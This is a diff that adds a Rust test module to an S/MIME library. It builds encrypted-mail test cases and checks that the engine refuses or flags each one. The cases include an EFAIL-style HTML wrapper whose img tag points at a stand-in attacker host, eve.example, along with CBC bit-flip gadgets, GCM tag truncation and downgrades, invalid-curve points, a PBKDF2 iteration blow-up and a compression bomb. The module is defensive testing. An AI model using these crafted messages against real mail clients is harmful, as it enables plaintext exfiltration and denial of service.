@@ -1,0 +1,316 @@
+//! F: encryption, with the addressee's key at hand; and the messages by which engines were made to decrypt what they
+//! should not, or to tell what they should not.
+
+use std::io::Write as _;
+
+use kakitome_pki::algorithm::{Cipher, KeyTransport};
+use kakitome_pki::asn1::{Oid, oid, tag, write as der};
+use kakitome_pki::cert::Certificate;
+use kakitome_pki::crypto::SystemRandom;
+use kakitome_smime::cms::content::{Object, read};
+use kakitome_smime::cms::enveloped::{Envelope, Enveloped};
+use kakitome_smime::cms::reader::Reader;
+use kakitome_smime::cms::recipient::{Naming, Recipient};
+use kakitome_smime::octets::InMemory;
+use kakitome_testkit::cms::SignedFactory;
+use kakitome_testkit::envelope::{EnvelopeFactory, Takes, compressed, key_transport};
+use kakitome_testkit::mail::{Mail, clear_part, opaque_part};
+use kakitome_testkit::{NOW, Pki, in_days};
+
+use crate::Row;
+
+/// A part as it is encrypted when nobody signs.
+const PLAIN: &[u8] =
+    b"Content-Type: text/plain\r\n\r\nThe bill of this month is attached; please pay until Friday.\r\n";
+
+/// Who reads.
+fn reader(takes: Takes) -> Certificate {
+    takes.holder("jiro").certificate
+}
+
+/// Encrypted to these readers as the engine does it.
+fn to(readers: &[Certificate], cipher: Cipher, content: &[u8]) -> Vec<u8> {
+    let recipient = |reader| Recipient::certificate(reader, KeyTransport::Pkcs1, Naming::default(), NOW).unwrap();
+    let recipients: Vec<Recipient> = readers.iter().map(recipient).collect();
+    let mut sealing =
+        Envelope::new(&recipients, cipher, &SystemRandom).unwrap().begin(content.len() as u64, Vec::new()).unwrap();
+    sealing.write_all(content).unwrap();
+    sealing.finish().unwrap()
+}
+
+/// A genuine encrypted object in pieces, to be put together with one flaw.
+struct Pieces {
+    factory: EnvelopeFactory,
+    info: Vec<u8>,
+    encrypted: Vec<u8>,
+    mac: Vec<u8>,
+    algorithm: Vec<u8>,
+}
+
+impl Pieces {
+    fn of(takes: Takes, cipher: Cipher, content: &[u8]) -> Self {
+        let object = to(&[reader(takes)], cipher, content);
+        let parsed = parsed(&object);
+        let length = usize::try_from(parsed.encrypted_len().unwrap()).unwrap();
+        let behind = if cipher.is_authenticated() { 18 } else { 0 };
+        let kind = if cipher.is_authenticated() { oid::AUTH_ENVELOPED_DATA } else { oid::ENVELOPED_DATA };
+        let version = if cipher.is_authenticated() || takes == Takes::Rsa { 0 } else { 2 };
+        Self {
+            factory: EnvelopeFactory::new(kind).version(version),
+            info: recipient_info(&object),
+            encrypted: object[object.len() - length - behind..object.len() - behind].to_vec(),
+            mac: parsed.mac.clone(),
+            algorithm: parsed.algorithm.to_der(),
+        }
+    }
+
+    fn whole(&self) -> EnvelopeFactory {
+        self.around(&self.info)
+    }
+
+    /// The same content with another recipient info.
+    fn around(&self, info: &[u8]) -> EnvelopeFactory {
+        let factory = self.factory.clone().recipient(info.to_vec()).algorithm(self.algorithm.clone());
+        factory.content(Some(&self.encrypted)).mac(&self.mac)
+    }
+
+    /// With one octet changed: at this place of the content, from its end.
+    fn flipped(&self, from_end: usize) -> EnvelopeFactory {
+        let mut encrypted = self.encrypted.clone();
+        let at = encrypted.len() - from_end;
+        encrypted[at] ^= 1;
+        self.whole().content(Some(&encrypted))
+    }
+}
+
+fn parsed(object: &[u8]) -> Box<Enveloped> {
+    match read(&object.to_vec(), &InMemory).unwrap() {
+        Object::Enveloped(enveloped) => enveloped,
+        _ => panic!("nothing encrypted"),
+    }
+}
+
+fn recipient_info(object: &[u8]) -> Vec<u8> {
+    let octets = object.to_vec();
+    let mut info = Reader::new(&octets).enter(tag::SEQUENCE, "").unwrap();
+    info.skip().unwrap();
+    let mut object = info.enter(0xa0, "").unwrap().enter(tag::SEQUENCE, "").unwrap();
+    object.skip().unwrap();
+    object.enter(tag::SET, "").unwrap().capture(100_000, "").unwrap().unwrap().der
+}
+
+pub(crate) fn rows() -> Vec<Row> {
+    [opened(), efail(), downgraded(), addressed(), parsing()].into_iter().flatten().collect()
+}
+
+/// With the reader's key of this kind.
+fn read_by(id: &'static str, takes: Takes, mail: Vec<u8>, state: &'static str, code: &'static str) -> Row {
+    Row::new(id, mail, state, code).key(takes.holder("jiro"))
+}
+
+/// Genuine ones.
+fn opened() -> Vec<Row> {
+    let world = Pki::get();
+    let (bank, eve) = (&world.bank, &world.eve);
+    let of_bank = Mail::of(bank);
+    let signed = clear_part(of_bank.payload(), &SignedFactory::by(bank, of_bank.payload()).der());
+    let rsa = |content: &[u8], cipher| to(&[reader(Takes::Rsa)], cipher, content);
+    let gcm = |content: &[u8]| rsa(content, Cipher::Aes256Gcm);
+    let by_rsa = |id, mail, state, code| read_by(id, Takes::Rsa, mail, state, code);
+    let outside = |signer: &kakitome_testkit::Holder, part: &[u8]| {
+        let mail = Mail::of(signer).part(part);
+        mail.clear(&SignedFactory::by(signer, mail.payload()).der())
+    };
+    let many: Vec<Certificate> = Takes::ALL.into_iter().map(reader).collect();
+    // The same certificate as the sender had it, and after its end.
+    let valid = Takes::Rsa.holder_of("ended", |factory| factory.serial(&[0x41, 9]));
+    let ended = Takes::Rsa.holder_of("ended", |factory| factory.serial(&[0x41, 9]).valid(in_days(-400), in_days(-1)));
+    let to_ended = to(std::slice::from_ref(&valid.certificate), Cipher::Aes256Gcm, &signed);
+    vec![
+        by_rsa("F02", of_bank.opaque(&gcm(&signed)), "ORG_CONFIRMED", "ok"),
+        by_rsa("F02c", of_bank.opaque(&rsa(&signed, Cipher::Aes128Cbc)), "ORG_CONFIRMED", "ok")
+            .note("enc.unauthenticated"),
+        read_by("F02e", Takes::P256, of_bank.opaque(&to(&many, Cipher::Aes256Gcm, &signed)), "ORG_CONFIRMED", "ok"),
+        read_by("F02x", Takes::X25519, of_bank.opaque(&to(&many, Cipher::Aes256Gcm, &signed)), "ORG_CONFIRMED", "ok"),
+        by_rsa("F03", of_bank.opaque(&rsa(PLAIN, Cipher::Aes256Cbc)), "NOT_SIGNED", "mime.none")
+            .note("enc.unauthenticated"),
+        by_rsa("F04", of_bank.opaque(&gcm(PLAIN)), "NOT_SIGNED", "mime.none"),
+        // The signature outside is the attacker's; it says nothing about what is inside.
+        by_rsa("F11", outside(eve, &opaque_part(&gcm(PLAIN))), "MAILBOX_CONFIRMED", "ok").note("enc.outer-sig"),
+        // Inside it is the bank's, and the mail is from the attacker.
+        by_rsa("F12", outside(eve, &opaque_part(&gcm(&signed))), "SIGNER_DIFFERS", "bind.none"),
+        // Triple-wrapped (RFC 2634 §1.1): who signed inside wrote it.
+        by_rsa("F12t", outside(bank, &opaque_part(&gcm(&signed))), "ORG_CONFIRMED", "ok"),
+        by_rsa("F13", of_bank.opaque(&to(&many, Cipher::Aes256Gcm, &signed)), "ORG_CONFIRMED", "ok"),
+        // The bank's mail to somebody else, sealed again for this reader: To is not covered, From is right.
+        by_rsa("F16", of_bank.clone().field("To", "jiro@reader.example").opaque(&gcm(&signed)), "ORG_CONFIRMED", "ok"),
+        Row::new("F18", of_bank.opaque(&to_ended), "ORG_CONFIRMED", "ok").key(ended),
+        by_rsa("F16f", Mail::of(eve).opaque(&gcm(&signed)), "SIGNER_DIFFERS", "bind.none"),
+    ]
+}
+
+/// Attack 19: EFAIL, and the reply oracle.
+fn efail() -> Vec<Row> {
+    let world = Pki::get();
+    let (bank, eve) = (&world.bank, &world.eve);
+    let of_bank = Mail::of(bank);
+    let by_rsa = |id, mail, state, code| read_by(id, Takes::Rsa, mail, state, code);
+    let sealed = opaque_part(&to(&[reader(Takes::Rsa)], Cipher::Aes256Cbc, PLAIN));
+    let around = |before: &str, after: &str| {
+        let html = |text: &str| format!("--mix\r\nContent-Type: text/html\r\n\r\n{text}\r\n");
+        let head = "Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n".to_owned() + &html(before) + "--mix\r\n";
+        [head.as_bytes(), &sealed, format!("\r\n{}--mix--\r\n", html(after)).as_bytes()].concat()
+    };
+    let signed = clear_part(of_bank.payload(), &SignedFactory::by(bank, of_bank.payload()).der());
+    let pieces = Pieces::of(Takes::Rsa, Cipher::Aes256Cbc, &signed);
+    let plain = Pieces::of(Takes::Rsa, Cipher::Aes256Cbc, PLAIN);
+    // A gadget: the block before the changed one turns to noise, and the changed octet comes out changed.
+    let inside = pieces.encrypted.len() - 400;
+    vec![
+        by_rsa("F08", of_bank.around(&around("<img src=\"http://eve.example/", "\">")), "NOT_SIGNED", "mime.none"),
+        by_rsa("F09", of_bank.opaque(&plain.flipped(plain.encrypted.len() - 20).der()), "NOT_SIGNED", "mime.none")
+            .note("enc.unauthenticated"),
+        by_rsa("F09s", of_bank.opaque(&pieces.flipped(inside).der()), "ALTERED", "cms.digest"),
+        by_rsa("F10", Mail::of(eve).part(around("see below", "bye")).clear_by(eve), "MAILBOX_CONFIRMED", "ok"),
+        by_rsa("F17", of_bank.around(&around("see the attachment", "bye")), "NOT_SIGNED", "mime.none"),
+    ]
+}
+
+fn gcm(nonce: usize, tag: u8) -> Vec<u8> {
+    let parameters = der::sequence(&[&der::octet_string(&vec![7; nonce]), &der::unsigned(&[tag])]);
+    der::sequence(&[&der::oid(&oid::AES256_GCM), &parameters])
+}
+
+fn cbc(kind: Oid, iv: &[u8]) -> Vec<u8> {
+    der::sequence(&[&der::oid(&kind), &der::octet_string(iv)])
+}
+
+/// Attacks 20 to 24, 26, 31: the content encryption is not what it says, or says what nobody should do.
+fn downgraded() -> Vec<Row> {
+    let base = Mail::of(&Pki::get().bank);
+    let row = |id, factory: EnvelopeFactory, code| read_by(id, Takes::Rsa, base.opaque(&factory.der()), "SEALED", code);
+    let sealed = Pieces::of(Takes::Rsa, Cipher::Aes256Gcm, PLAIN);
+    let plain = Pieces::of(Takes::Rsa, Cipher::Aes256Cbc, PLAIN);
+    // The parameters of a genuine object with a shorter tag: its own nonce, and the tag's first octets.
+    let shorter = |length: u8| {
+        let mut algorithm = sealed.algorithm.clone();
+        *algorithm.last_mut().unwrap() = length;
+        sealed.whole().algorithm(algorithm).mac(&sealed.mac[..usize::from(length)])
+    };
+    let nonce = sealed.algorithm.windows(2).position(|pair| pair == [4, 12]).unwrap() + 2;
+    let counter = [&sealed.algorithm[nonce..nonce + 12], &[0, 0, 0, 2]].concat();
+    let as_cbc = EnvelopeFactory::new(oid::ENVELOPED_DATA).recipient(sealed.info.clone());
+    let whole_blocks = sealed.encrypted.len() / 16 * 16;
+    let mut wrong_mac = sealed.mac.clone();
+    wrong_mac[15] ^= 1;
+    vec![
+        row("F20a", shorter(1), "enc.refused"),
+        row("F20b", shorter(4), "enc.refused"),
+        row("F20c", shorter(11), "enc.refused"),
+        row("F20d", sealed.whole().mac(&sealed.mac[..12]), "enc.refused"),
+        row("F20e", sealed.whole().mac(&[]), "enc.refused"),
+        row("F05", sealed.whole().mac(&wrong_mac), "enc.failed"),
+        row("F05c", sealed.flipped(10), "enc.failed"),
+        row("F21", sealed.whole().algorithm(cbc(oid::AES256_CBC, &[7; 16])), "enc.refused"),
+        row("F21g", plain.whole().algorithm(gcm(12, 16)), "enc.refused"),
+        row(
+            "F22",
+            as_cbc.clone().algorithm(cbc(oid::AES256_CBC, &counter)).content(Some(&sealed.encrypted[..whole_blocks])),
+            "enc.failed",
+        ),
+        row("F22g", as_cbc.algorithm(sealed.algorithm.clone()).content(Some(&sealed.encrypted)), "enc.refused"),
+        row("F23", sealed.whole().algorithm(gcm(4000, 16)), "enc.refused"),
+        row("F23z", sealed.whole().algorithm(gcm(0, 16)), "enc.refused"),
+        row("F23i", plain.whole().algorithm(cbc(oid::AES256_CBC, &[7; 32])), "enc.refused"),
+        row("F26", plain.flipped(17), "enc.failed"),
+        row("F26l", plain.flipped(1), "enc.failed"),
+        row("F31", plain.whole().content(None), "enc.refused"),
+        row("F31e", plain.whole().content(Some(&[])), "enc.refused"),
+        row("F31c", plain.whole().content(Some(&plain.encrypted[..plain.encrypted.len() - 1])), "enc.refused"),
+        row("F31g", sealed.whole().content(None), "enc.refused"),
+    ]
+}
+
+/// Attacks 25, 27 to 30: recipient infos.
+fn addressed() -> Vec<Row> {
+    let base = Mail::of(&Pki::get().bank);
+    let row =
+        |id, takes, factory: EnvelopeFactory, code| read_by(id, takes, base.opaque(&factory.der()), "SEALED", code);
+    let rsa = Pieces::of(Takes::Rsa, Cipher::Aes256Gcm, PLAIN);
+    let p256 = Pieces::of(Takes::P256, Cipher::Aes256Gcm, PLAIN);
+    let x25519 = Pieces::of(Takes::X25519, Cipher::Aes256Gcm, PLAIN);
+    let transport = |key: &[u8]| key_transport(&reader(Takes::Rsa), None, key);
+    // The originator's point: an uncompressed one of P-256, and 32 octets of X25519.
+    let replaced = |info: &[u8], from: usize, octets: &[u8]| {
+        let mut info = info.to_vec();
+        info[from..from + octets.len()].copy_from_slice(octets);
+        info
+    };
+    let point = p256.info.windows(3).position(|window| window == [0x42, 0, 4]).unwrap() + 3;
+    let small = x25519.info.windows(3).position(|window| window == [3, 0x21, 0]).unwrap() + 3;
+    let wrapped = p256.info.len() - 1;
+    let other = |kind, value: Vec<u8>| der::element(0xa4, &[&der::oid(&kind), &value]);
+    let rounds = |rounds: &[u8]| {
+        let parameters = der::sequence(&[&der::octet_string(b"saltsalt"), &der::unsigned(rounds)]);
+        let derivation = der::element(0xa0, &[&der::oid(&oid::PBKDF2), &parameters]);
+        let wrap = der::sequence(&[&der::oid(&oid::PWRI_KEK), &cbc(oid::AES256_CBC, &[7; 16])]);
+        der::element(0xa3, &[&der::unsigned(&[0]), &derivation, &wrap, &der::octet_string(&[1; 48])])
+    };
+    vec![
+        // The padding of PKCS#1 v1.5 is wrong: nothing tells it from a wrong tag.
+        row("F14", Takes::Rsa, rsa.around(&transport(&[1; 256])), "enc.failed"),
+        row("F14z", Takes::Rsa, rsa.around(&transport(&[0; 256])), "enc.failed"),
+        // Two recipient infos name the same certificate: the first alone is tried.
+        row("F25", Takes::Rsa, rsa.around(&transport(&[1; 256])).recipient(rsa.info.clone()), "enc.failed"),
+        row("F27", Takes::Rsa, rsa.around(&rounds(&[0x7f, 0xff, 0xff, 0xff])), "enc.cannot-open"),
+        // A point that is not on the curve, and one of small order.
+        row("F28c", Takes::P256, p256.around(&replaced(&p256.info, point, &[5; 64])), "enc.failed"),
+        row("F28s", Takes::X25519, x25519.around(&replaced(&x25519.info, small, &[0; 32])), "enc.failed"),
+        row("F28w", Takes::P256, p256.around(&replaced(&p256.info, wrapped, &[0x77])), "enc.failed"),
+        row("F29", Takes::Rsa, rsa.around(&transport(&[1; 8192])), "enc.refused"),
+        row("F29e", Takes::Rsa, rsa.around(&transport(&[])), "enc.failed"),
+        row("F30", Takes::Rsa, rsa.around(&other(oid::DATA, der::octet_string(&[1; 4000]))), "enc.cannot-open"),
+        // KEMRecipientInfo (RFC 9629) with ciphertext of no length that the algorithm has.
+        row("F15", Takes::Rsa, rsa.around(&other(oid::KEM_RECIPIENT_INFO, der::sequence(&[]))), "enc.cannot-open"),
+        row("F30e", Takes::Rsa, rsa.around(&other(oid::DATA, Vec::new())), "enc.cannot-open"),
+    ]
+}
+
+/// Attacks 33 to 38, 41: what costs time or memory before anything is known about it.
+fn parsing() -> Vec<Row> {
+    let bank = &Pki::get().bank;
+    let base = Mail::of(bank);
+    let row = |id, object: &[u8], state, code| read_by(id, Takes::Rsa, base.opaque(object), state, code);
+    let deflated = |content: &[u8]| {
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+        encoder.write_all(content).unwrap();
+        encoder.finish().unwrap()
+    };
+    let signed = clear_part(base.payload(), &SignedFactory::by(bank, base.payload()).der());
+    let bomb = {
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+        let zeros = vec![0; 1 << 20];
+        (0..200).for_each(|_| encoder.write_all(&zeros).unwrap());
+        encoder.finish().unwrap()
+    };
+    // Twenty objects inside one another.
+    let deep = (0..20).fold(signed.clone(), |inner, _| opaque_part(&SignedFactory::by(bank, &inner).embedded().der()));
+    // A length of 2 GiB and one of almost 2^64, with nothing behind them.
+    let declares = |length: &[u8]| {
+        [&[tag::SEQUENCE, 0x80][..], &der::oid(&oid::SIGNED_DATA), &[0xa0, 0x80, tag::SEQUENCE], length].concat()
+    };
+    vec![
+        row("F26z", &compressed(oid::DATA, &deflated(&signed)), "ORG_CONFIRMED", "ok"),
+        row("F41", &compressed(oid::DATA, &bomb), "AMBIGUOUS", "limit.compressed"),
+        row(
+            "F41n",
+            &compressed(oid::DATA, &deflated(&opaque_part(&compressed(oid::DATA, &bomb)))),
+            "AMBIGUOUS",
+            "limit.compressed",
+        ),
+        row("F41c", &compressed(oid::DATA, &deflated(&signed)[..200]), "AMBIGUOUS", "cms.compressed"),
+        Row::new("F33", Mail::of(bank).around(&deep), "ORG_CONFIRMED", "ok"),
+        row("F35", &declares(&[0x84, 0x7f, 0xff, 0xff, 0xff]), "AMBIGUOUS", "cms.parse"),
+        row("F35h", &declares(&[0x88, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xf0]), "AMBIGUOUS", "cms.parse"),
+    ]
+}
